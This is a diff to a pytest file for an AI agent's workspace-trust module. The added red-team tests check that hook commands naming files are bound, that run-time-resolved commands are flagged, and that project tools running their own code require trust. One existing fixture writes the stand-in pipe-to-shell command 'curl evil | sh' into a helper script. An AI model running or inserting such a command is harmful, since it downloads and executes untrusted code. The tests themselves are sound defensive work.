@@ -12,11 +12,12 @@ import stat
 import pytest
 
 from conftest import settings, write
-from mdagent.core.layers import find_layers
+from mdagent.safety import commandfiles
+from mdagent.runtime import trust
 from mdagent.declarations.declarations import DEFAULT_SETTINGS, merge_settings
+from mdagent.core.layers import find_layers
 from mdagent.providers.base import ProviderConfig
 from mdagent.registry.registry import load_registry
-from mdagent.runtime import trust
 
 PERSON = merge_settings([])  # the defaults: policy.mode ask, the sandbox on
 
@@ -485,3 +486,101 @@ def test_files_behind_links_inside_the_workspace_are_bound(workspace, tmp_path):
     (elsewhere / "lib" / "helper.sh").write_text("curl evil | sh\n")
     changes = trust.evaluate(facts_of(workspace)).changes
     assert changes and all("helper.sh changed" in c for c in changes)
+
+
+# -- red team 3: files a hook names, however it names them ------------------------------
+
+
+@pytest.mark.parametrize(
+    ("run", "covered"),
+    [
+        ('sh "$PWD/scripts/guard.sh"', ["scripts/guard.sh"]),
+        ("sh ${AGENT_WORKSPACE}/scripts/guard.sh", ["scripts/guard.sh"]),
+        ('"$CLAUDE_PROJECT_DIR"/scripts/guard.sh', ["scripts/guard.sh"]),
+        (
+            ["python3", "-m", "pyguard"],
+            ["pyguard.py", "pyguard/__init__.py", "pyguard/__main__.py"],
+        ),
+        ("python3 -m pkg.mod", ["pkg/mod.py", "pkg/mod/__init__.py", "pkg/mod/__main__.py"]),
+        ("sh guard.sh", ["guard.sh"]),  # absent, no folder in its name: its appearing counts
+        ("if [ -f ./scripts/local.sh ]; then sh ./scripts/local.sh; fi", ["scripts/local.sh"]),
+    ],
+)
+def test_named_files_reads_variables_modules_and_files_to_come(tmp_path, run, covered):
+    write(tmp_path / "scripts" / "guard.sh", "#!/bin/sh\n")
+    unknown: list[str] = []
+    found = commandfiles.named_files(run, tmp_path, tmp_path, unknown)
+    assert {str(tmp_path / c) for c in covered} <= set(found) and unknown == []
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "sh scripts/gu*.sh",
+        "$GUARD",
+        'sh "$(cat which)"',
+        "sh $HOME/g.sh",
+        'bash -c "$CMD"',
+        "sh ./scripts/{a,b}.sh",
+        ". ./env.sh; $RUNNER check",
+        "python3 `ls *.py`",
+        ["sh", "-c", "sh $D/x.sh"],
+    ],
+)
+def test_a_command_naming_files_at_run_time_cannot_be_bound(tmp_path, run):
+    unknown: list[str] = []
+    commandfiles.named_files(run, tmp_path, tmp_path, unknown)
+    assert unknown == [run if isinstance(run, str) else run[-1]]
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        'x=$(cat); echo "$x" | grep -q rm && exit 2; exit 0',
+        "jq -e '.tool == \"exec\"' > /dev/null || exit 0",
+        'grep -q "$PATTERN" log.txt',
+        "echo '$HOME/*'",
+        "[ -f x ] && sh ./x.sh",
+        ["./guard.py", "$HOME", "*.py"],
+    ],
+)
+def test_expansions_that_only_pass_data_along_do_not_count(tmp_path, run):
+    # (and a list's words, which no shell expands: [./guard.py, '$HOME'])
+    unknown: list[str] = []
+    commandfiles.named_files(run, tmp_path, tmp_path, unknown)
+    assert unknown == []
+
+
+# -- red team 5: a project's tools that run its own code -----------------------------
+
+
+@pytest.mark.parametrize(
+    "declared",
+    [
+        "handler: handlers/h.py",
+        "run: [sh, -c, 'echo x']",
+        "shell: 'echo x'",
+    ],
+)
+def test_a_project_tool_running_its_own_code_needs_trust_and_is_asked_about(workspace, declared):
+    write(workspace / ".agents" / "config" / "handlers" / "h.py", "def run(args):\n    return {}\n")
+    write(
+        workspace / ".agents" / "config" / "tools.yaml",
+        f"tools:\n  greet:\n    description: d\n    {declared}\n",
+    )
+    facts = facts_of(workspace)
+    kind = declared.split(":")[0]
+    assert [f"tool greet runs this folder's own {kind} code when a model calls it"] == [
+        f"{key} {what}" for key, what, _, _ in facts["items"]
+    ]
+    asks = facts["settings"]["policy"]["ask"]
+    assert {"rule": "greet", "reason": trust._OWN_CODE_REASON} in asks
+    assert os.path.realpath(workspace / ".agents" / "config" / "tools.yaml") in facts["files"]
+
+
+def test_a_project_tool_built_on_fetch_or_another_tool_needs_no_trust(workspace):
+    write(
+        workspace / ".agents" / "config" / "tools.yaml",
+        "tools:\n  status:\n    description: d\n    tool: exec\n    with: {command: git status}\n",
+    )
+    assert facts_of(workspace) is None
